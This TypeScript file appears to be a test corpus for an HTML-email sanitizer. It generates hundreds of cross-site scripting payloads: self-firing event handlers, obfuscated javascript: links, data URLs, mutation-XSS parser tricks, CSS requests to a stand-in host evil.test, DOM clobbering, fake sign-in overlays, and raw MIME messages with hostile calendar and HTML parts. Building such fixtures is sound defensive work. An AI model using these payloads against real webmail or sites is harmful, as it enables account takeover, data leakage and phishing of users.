// SPDX-License-Identifier: AGPL-3.0-or-later
/**
 * More letters that try to run something, to ask somebody for something, or to look like the page around them; own,
 * by the ideas of public cheat sheets. Each would set `top.__owned`, open a dialog, or ask evil.test.
 */
const run = 'top.__owned=1;alert(1)';
const ask = 'https://evil.test/c';
const b64 = (text: string): string => Buffer.from(text).toString('base64');

/** Handlers that fire by themselves, on the elements where they do. */
const handlers: string[] = [
  ...[
    'img src=//evil.test/i onerror',
    'img src onload',
    'image src=x onerror',
    'input type=image src=x onerror',
  ],
  ...[
    'body onpageshow',
    'body onhashchange',
    'svg onload',
    'svg/onload',
    'marquee onstart',
    'marquee loop=1 onfinish',
  ],
  ...['video src=x onerror', 'video onloadstart src=x', 'audio src=x onerror', 'audio oncanplay src=x'],
  ...[
    'details open ontoggle',
    'select autofocus onfocus',
    'textarea autofocus onfocus',
    'keygen autofocus onfocus',
  ],
  ...[
    'object data=x onerror',
    'embed src=x onload',
    'iframe onload',
    'iframe src=x onerror',
    'frameset onload',
  ],
  ...[
    'style onload',
    'link rel=stylesheet href=x onerror',
    'script src=x onerror',
    'bgsound onpropertychange',
  ],
  ...['div style="animation:spin 1s" onanimationstart', 'div style="transition:all 1s" ontransitionend'],
  ...[
    'p tabindex=1 autofocus onfocus',
    'a id=x tabindex=1 onfocus',
    'div contenteditable autofocus onbeforeinput',
  ],
  ...[
    'x onclick',
    'x onpointerover',
    'xss onscrollend style="overflow:auto"',
    'dialog open onclose',
    'p onauxclick',
  ],
  ...[
    'table background=x onload',
    'meter onmouseover',
    'portal onload',
    'button popovertarget=p onbeforetoggle',
  ],
].map((start) => `<${start}="${run}">text`);

/** Ways to spell what a filter may look for. */
const links: string[] = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&#58;',
  'javascript&colon;',
  '&#x6A;avascript:',
  '&#0000106avascript:',
  'jav&#x0A;ascript:',
  'javascript:%0a',
  'vbscript:',
  'livescript:',
  'feed:javascript:',
  'view-source:javascript:',
  'blob:javascript:',
  'jar:javascript:',
  'mhtml:javascript:',
  'url=javascript:',
  '//javascript:',
  'x:javascript:',
  'javascript:javascript:',
].map((scheme) => `<a href="${scheme}${run}">a link</a>`);

const dataUrls: string[] = [
  `<a href="data:text/html;base64,${b64(`<script>${run}</script>`)}">x</a>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${ask}"/></svg>`)}">`,
  `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  `<object data="data:text/html;base64,${b64(`<script>${run}</script>`)}"></object>`,
  `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}">`,
  `<a href="data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${run}</script>">x</a>`,
  `<area href="data:text/html,x" shape=default><map name=m><area href="javascript:${run}"></map>`,
];

/** Text that changes its meaning when it is parsed a second time, or in another namespace. */
const mutations: string[] = [
  `<math><mi><table><mi><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  `<svg><desc><style><!--</style><img src onerror=${run}>--></desc></svg>`,
  `<svg><title><![CDATA[</title><img src=x onerror=${run}>]]></svg>`,
  `<noembed><img title="</noembed><img src onerror=${run}>"></noembed>`,
  `<noframes><style></noframes><img src=x onerror=${run}></style>`,
  `<textarea><img title="</textarea><img src onerror=${run}>">`,
  `<title><img title="</title><img src onerror=${run}>">`,
  `<xmp><p title="</xmp><svg/onload=${run}>">`,
  `<plaintext><img src=x onerror=${run}>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}>-->`,
  `<![if IE]><script>${run}</script><![endif]><!--[if gte mso 9]><script>${run}</script><![endif]-->`,
  `<?xml-stylesheet href="javascript:${run}"?><?php echo "<script>${run}</script>"?>`,
  `<select><style></select><img src=x onerror=${run}></style>`,
  `<table><td><select><option><svg onload=${run}></table>`,
  `<a href="x"><b><a href="javascript:${run}"></b>nested</a>`,
  `<img src="x\` \`<script>${run}</script>"\` \`>`,
  `<img """><script>${run}</script>">`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `<svg><use xlink:href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`)}#x"/></svg>`,
  `<svg><animate xlink:href=#a attributeName=href values=javascript:${run} /><a id=a><text x=20 y=20>x</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${run}"/></svg>`,
  `<svg><image xlink:href="${ask}" /><feImage href="${ask}"/></svg>`,
  `<math href="javascript:${run}">click</math><math xlink:href="javascript:${run}"><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<div><template><s><template><s><img src=x onerror=${run}>@</s></template></s></template></div>`,
];

/** Style sheets that ask for something, and what they could give away. */
const styles: string[] = [
  `<style>@import url("${ask}");</style>`,
  `<style>@im\\port "${ask}";</style>`,
  `<style>@import/**/"${ask}" layer(x) supports(display:grid);</style>`,
  `<style>@font-face{font-family:a;src:url(${ask});unicode-range:U+0041}p{font-family:a}</style><p>A</p>`,
  `<style>@font-face{font-family:b;src:local("x"),\\75\\72\\6c(${ask})}*{font-family:b}</style>`,
  `<style>p[class^="s"]{background:url("${ask}?s")}</style><p class=secret>x</p>`,
  `<style>a:visited{background:url(${ask})}:root{--x:url(${ask});background:var(--x)}</style>`,
  `<style>p::before{content:url(${ask})}p::marker{content:url(${ask})}li{list-style-image:url(${ask})}</style><p>x<li>y`,
  `<style>p{cursor:url(${ask}),auto;border-image:url(${ask}) 1;mask:url(${ask}#m);filter:url(${ask}#f);clip-path:url(${ask}#c)}</style><p>x`,
  `<style>p{background:image-set("${ask}" 1x);background:-webkit-image-set(url(${ask}) 1x);background:cross-fade(url(${ask}),url(${ask}))}</style><p>x`,
  `<style>p{background:src("${ask}");shape-outside:url(${ask});offset-path:url(${ask})}</style><p>x`,
  `<style>@namespace url(${ask});@document url(${ask}){p{color:red}}@counter-style c{symbols:url(${ask})}</style><p>x`,
  `<style>@property --p{syntax:"<url>";inherits:true;initial-value:url(${ask})}p{background:var(--p)}</style><p>x`,
  `<style>@media screen{@supports(display:grid){p{background:url(${ask})}}}p{&:hover,&{background:url(${ask})}}</style><p>x`,
  `<style><!--p{background:url(${ask})}--></style><p>x`,
  `<style>p{background:u/**/rl(${ask});background:URL( '${ask}' )}</style><p>x`,
  `<style>p{width:expression(${run});behavior:url(${ask});-moz-binding:url(${ask}#x)}</style><p>x`,
  `<style></style/><img src=x onerror=${run}></style>`,
  `<style>*{position:fixed!important;inset:0;z-index:2147483647}body::after{content:"Sign in again";position:fixed;inset:0;background:#fff}</style>`,
  `<p style="background-image:url(${ask})">a</p><p style="background:\\000075rl(${ask})">b</p><p style='background:ur\\l("${ask}")'>c</p>`,
  `<p style="xss:expression(${run});width:1px;background:URL(javascript:${run})">x</p>`,
  `<p style="--a:url(${ask});background:var(--a)" onmouseover="${run}">x</p>`,
  `<p style="content:'&lt;/style&gt;';background:url(&quot;${ask}&quot;)">x</p>`,
  `<link rel="icon" href="${ask}"><link rel="manifest" href="${ask}"><link rel="preconnect" href="${ask}"><link rel="modulepreload" href="${ask}">`,
];

/** Asks by other means, takes over names, or reaches for our own server. */
const others: string[] = [
  `<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="refresh" content="0; url=javascript:${run}"><meta http-equiv=refresh content="1,${ask}">`,
  `<meta name="referrer" content="unsafe-url"><img src="${ask}" referrerpolicy="unsafe-url">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>${run}</script>`,
  `<base href="javascript:/a/-${run}///"><a href="x">x</a><base target="_top"><a href="#y">y</a>`,
  `<form id=f action="javascript:${run}"><input type=submit id=j value=x formaction="javascript:${run}"></form>`,
  `<form action="/service/soap/DeleteRequest" method=post><input name=x></form><button form=f formaction="${ask}">x</button>`,
  `<isindex action="javascript:${run}" type=submit value=x><input type=hidden name=__proto__ value=x>`,
  `<iframe srcdoc="&lt;img src=x onerror=&quot;${run}&quot;&gt;"></iframe><iframe src="/"></iframe><iframe src="//evil.test"></iframe>`,
  `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.parent.__owned=1</script>"></iframe>`,
  `<frameset><frame src="javascript:${run}"></frameset>`,
  `<applet code="x" archive="${ask}"></applet><param name=movie value="${ask}"><object classid="clsid:x" codebase="${ask}"></object>`,
  `<picture><source srcset="${ask} 1x" media="(min-width:1px)"><img srcset="${ask} 2x" sizes=1px src=""></picture>`,
  `<img src="${ask}" lowsrc="${ask}" dynsrc="${ask}" longdesc="${ask}" usemap="${ask}"><input type=image src="${ask}">`,
  `<img src="//evil.test/a"><img src="\\\\evil.test\\a"><img src="/\\evil.test/a"><img src="https:evil.test/a"><img src="http:////evil.test/a">`,
  `<img src="ftp://evil.test/a"><img src="ws://evil.test"><img src="file:///etc/passwd"><img src="view-source:${ask}"><img src="filesystem:${ask}">`,
  `<img src="cid:${ask}"><img src="cid:javascript:${run}"><img src="cid:../../../service/soap/NoOpRequest"><img src="cid:%0d%0a//evil.test">`,
  `<img src="/service/home/~/?auth=co&id=1&part=2&fmt=zip"><img src="/service/home/~/../../soap/EndSessionRequest?part=1"><img src="/logout">`,
  `<img dfsrc="javascript:${run}"><img dfsrc="${ask}" src="${ask}"><img data-src="${ask}"><p data-background="${ask}">x</p>`,
  `<video poster="${ask}" src="${ask}"></video><track src="${ask}"><audio><source src="${ask}"></audio>`,
  `<body background="${ask}"><table background="${ask}"><tr background="${ask}"><th background="${ask}">x</table>`,
  `<q cite="${ask}">x</q><blockquote cite="${ask}">x</blockquote><ins cite="${ask}">x</ins><html manifest="${ask}">`,
  `<a href="https://example.test" ping="${ask}" download target=_top attributionsrc="${ask}">x</a><img attributionsrc="${ask}">`,
  `<a href="https://good.test@evil.test/">https://good.test</a><a href="https://xn--e1awd7f.test/">еріс</a>`,
  `<img name=body><img name=cookie><a id=location href="javascript:${run}"></a><form name=document><input name=createElement></form>`,
  `<p id=list>x</p><p id=app>y</p><form id=attributes><input name=parentNode><input name=nodeName></form>`,
  `<p is="x-y">x</p><x-y></x-y><slot name=x></slot><p part=x exportparts=x slot=x>x</p><div popover id=p>x</div>`,
  `<div style="position:fixed;inset:0;background:#fff">Your session has ended. <a href="${ask}">Sign in</a></div>`,
  `<p dir=rtl>\u202etxt.exe</p><p>\u0000<scr\u0000ipt>${run}</scr\u0000ipt></p>`,
  `<details open><summary>x</summary><object type="text/x-scriptlet" data="${ask}"></object></details>`,
  `<script type="module">import "${ask}"</script><script type="importmap">{"imports":{"a":"${ask}"}}</script><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${ask}"]}]}</script>`,
  `<div itemscope itemtype="${ask}" onfocusin="${run}" tabindex=0 accesskey=x>x</div><fencedframe src="${ask}"></fencedframe>`,
];

export const CORPUS: readonly string[] = [
  ...handlers,
  ...links,
  ...dataUrls,
  ...mutations,
  ...styles,
  ...others,
];

/** Whole messages: the headers, the files and the invitation are foreign too. */
export const rawLetters = (subject: string): string[] => {
  const evil = `<img src=x onerror=${run}>`;
  const head = (more: string): string =>
    `From: "${evil}" <a@outside.test>\r\nTo: carol@example.test\r\nSubject: ${subject} ${evil}\r\nMIME-Version: 1.0\r\n${more}\r\n`;
  const calendar = [
    ...[
      'BEGIN:VCALENDAR',
      'METHOD:REQUEST',
      'VERSION:2.0',
      'BEGIN:VEVENT',
      'UID:1',
      'DTSTART:20300101T100000Z',
    ],
    ...[`SUMMARY:${evil}`, `LOCATION:<a href="javascript:${run}">x</a>`, `URL:javascript:${run}`],
    `DESCRIPTION:<details ontoggle=${run} open>x</details>`,
    `X-ALT-DESC;FMTTYPE=text/html:<html><body onload="${run}"><script>${run}</script></body></html>`,
    ...[`ORGANIZER;CN="${evil}":mailto:a@outside.test`, `ATTACH:${ask}`, 'END:VEVENT', 'END:VCALENDAR'],
  ].join('\r\n');
  const multi = (kind: string, parts: string[]): string =>
    head(`Content-Type: multipart/${kind}; boundary=b\r\n`) +
    parts.map((p) => `--b\r\n${p}\r\n`).join('') +
    '--b--\r\n';
  const text = 'Content-Type: text/plain\r\n\r\nhello';
  return [
    multi('alternative', [text, `Content-Type: text/calendar; method=REQUEST\r\n\r\n${calendar}`]),
    multi('mixed', [
      text,
      `Content-Type: text/calendar; name="${evil}.ics"\r\nContent-Disposition: attachment\r\n\r\n${calendar}`,
    ]),
    multi('mixed', [
      text,
      `Content-Type: text/html; name="x.html"\r\nContent-Disposition: attachment\r\n\r\n<script>${run}</script>`,
    ]),
    multi('mixed', [
      text,
      `Content-Type: image/svg+xml\r\nContent-Disposition: inline; filename="${evil}.svg"\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="${ask}"/></svg>`,
    ]),
    multi('related', [
      `Content-Type: text/html\r\n\r\n<p>hi</p><img src="cid:x@y"><iframe src="cid:x@y"></iframe>`,
      `Content-Type: text/html\r\nContent-ID: <x@y>\r\n\r\n<script>${run}</script>`,
    ]),
    multi('mixed', [
      text,
      `Content-Type: message/rfc822\r\n\r\nSubject: ${evil}\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
    ]),
    head('Content-Type: text/plain\r\n') +
      `javascript:${run} http://evil.test/"onmouseover="${run} mailto:a@b?body=<script>\r\n${evil}\r\n`,
    head('Content-Type: text/html; charset=utf-7\r\n') + '+ADw-script+AD4-top.__owned=1+ADw-/script+AD4-\r\n',
    head(
      `Content-Type: text/html\r\nReply-To: "${evil}" <b@outside.test>\r\nList-Unsubscribe: <javascript:${run}>, <data:text/html,x>\r\n`,
    ) + '<p>list</p>\r\n',
    head('Content-Type: application/xhtml+xml\r\n') +
      `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${run}</script></body></html>\r\n`,
  ];
};
